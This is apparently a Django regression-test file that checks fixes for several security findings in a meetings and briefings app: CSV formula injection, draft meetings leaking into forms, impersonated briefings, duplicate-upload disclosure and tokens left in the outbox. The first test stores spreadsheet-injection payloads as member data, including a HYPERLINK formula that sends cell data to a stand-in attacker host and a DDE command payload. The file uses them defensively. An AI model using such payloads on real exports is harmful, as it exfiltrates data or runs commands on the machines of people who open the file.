"""Findings of the attacker's walk in meetings, briefings and the outbox (issue 9):
each test failed on the code before its fix. They use pages and URLs only."""

import csv
import io
import re

from django.db import connection
from django.urls import reverse

from briefings.models import Briefing, Document
from briefings.services import documents as document_services
from meetings.models import Meeting
from notifications.models import Message
from tests.briefings.factories import make_pdf, upload
from tests.meetings.factories import AgendaItemFactory, MeetingFactory, in_days
from tests.members.factories import OrganizationFactory


def _outbox_holds(text: str) -> bool:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT * FROM {Message._meta.db_table}")
        return any(text in str(value) for row in cursor.fetchall() for value in row)


# --- Finding 4: formula injection in the attendance export ---

def test_attendance_export_neutralises_every_cell(client, cochair, member):
    member.full_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    member.title = "+cmd|' /C calc'!A0"
    member.save()
    meeting = MeetingFactory(start=in_days(-1), end=in_days(-1, 12))
    client.force_login(cochair)
    client.post(reverse("meetings:attendance", args=[meeting.pk]),
                {"organizations": [member.organization_id], "people": [member.pk]})
    export = client.get(reverse("meetings:attendance_csv", args=[meeting.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(export)))
    cells = [cell for row in rows for cell in row]
    assert "'" + member.full_name in cells and "'" + member.title in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)


# --- Finding 9: draft meetings leak into the briefing and upload forms ---

def test_member_does_not_see_draft_meetings_in_upload_and_briefing_forms(client, member):
    draft = MeetingFactory(title="Secret draft about police follow-up", status=Meeting.Status.DRAFT)
    AgendaItemFactory(meeting=draft, title="Draft agenda item on a police case")
    scheduled = MeetingFactory(title="Open scheduled meeting")
    client.force_login(member)
    for url in (reverse("briefings:upload"), reverse("briefings:briefing_create")):
        html = client.get(url).content.decode()
        assert "Open scheduled meeting" in html
        assert "Secret draft" not in html and "Draft agenda item" not in html
    response = client.post(reverse("briefings:upload"), {
        "title": "Paper", "kind": "report", "access_level": "members", "meeting": draft.pk,
        "file": upload("p.pdf", make_pdf("draft paper"), "application/pdf")})
    assert response.status_code == 200 and "meeting" in response.context["form"].errors
    assert not Document.objects.filter(meeting=draft).exists()
    assert scheduled.pk


# --- Finding 10: a member posts a briefing in another organization's name ---

def test_member_posts_briefings_only_for_their_own_organization(client, member, cochair):
    iom = OrganizationFactory(name="International Organization for Migration", acronym="IOM", kind="international")
    meeting = MeetingFactory()
    item = AgendaItemFactory(meeting=meeting, title="Status of the anti-TIP bill", presenter=iom)
    client.force_login(member)
    client.post(reverse("briefings:briefing_create"), {
        "title": "Taking IOM's slot", "presenter": iom.pk, "meeting": meeting.pk, "agenda_item": item.pk,
        "summary": "x"})
    assert not Briefing.objects.filter(presenter=iom).exists()
    assert not Briefing.objects.filter(agenda_item=item).exclude(presenter=iom).exists()

    client.post(reverse("briefings:briefing_create"), {"title": "Our own briefing", "presenter": member.organization_id,
                                                      "summary": "x"})
    assert Briefing.objects.filter(title="Our own briefing", presenter=member.organization).exists()

    # A coordinator records briefings of any organization.
    client.force_login(cochair)
    client.post(reverse("briefings:briefing_create"), {
        "title": "IOM on the bill", "presenter": iom.pk, "meeting": meeting.pk, "agenda_item": item.pk, "summary": "x"})
    assert Briefing.objects.filter(title="IOM on the bill", presenter=iom, agenda_item=item).exists()


# --- Finding 11: a duplicate upload reveals a co-chairs-only document ---

def test_duplicate_upload_does_not_reveal_a_cochairs_only_document(client, member, cochair):
    content = make_pdf("restricted bytes")
    document_services.document_upload(upload=upload("r.pdf", content), by=cochair, title="Police follow-up",
                                       kind="report", access_level="cochairs")
    client.force_login(member)
    response = client.post(reverse("briefings:upload"), {
        "title": "My copy", "kind": "report", "access_level": "members",
        "file": upload("mine.pdf", content, "application/pdf")})
    html = response.content.decode()
    assert "co-chairs" not in html.lower().replace("co-chairs-only documents are visible", "")
    assert "already in the library" not in html
    # It is stored as the member's own document, as any new file would be.
    assert response.status_code == 302
    assert Document.objects.filter(title="My copy", uploaded_by=member).exists()


# --- Finding 8: live links readable in the outbox ---

def test_meeting_reply_links_are_not_readable_in_the_outbox_once_sent(client, cochair, member, mailoutbox,
                                                                      django_capture_on_commit_callbacks):
    meeting = MeetingFactory()
    client.force_login(cochair)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("meetings:invitations_send", args=[meeting.pk]))
    sent = [m for m in mailoutbox if member.email in m.to[0]]
    assert sent
    token = re.search(r"/meetings/\d+/reply/([^/\s]+)/", sent[0].body).group(1)
    assert Message.objects.filter(recipient_email=member.email, status="sent").exists()
    assert not _outbox_holds(token)
    # The link in the email works.
    client.logout()
    assert client.get(f"/meetings/{meeting.pk}/reply/{token}/").status_code == 200


def test_invitation_links_are_not_readable_in_the_outbox_once_sent(client, secretariat, mailoutbox,
                                                                  django_capture_on_commit_callbacks):
    org = OrganizationFactory(name="High Commission of India", status="invited", joined_on=None)
    client.force_login(secretariat)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("members:invitation_new"), {
            "organization": org.pk, "contacts": "Anjali Sharma <contact@india.example>", "message": "Welcome",
            "action": "send"})
    token = re.search(r"/members/join/([A-Za-z0-9_\-]+)/", mailoutbox[-1].body).group(1)
    assert not _outbox_holds(token)
    client.logout()
    assert client.get(f"/members/join/{token}/").status_code == 200
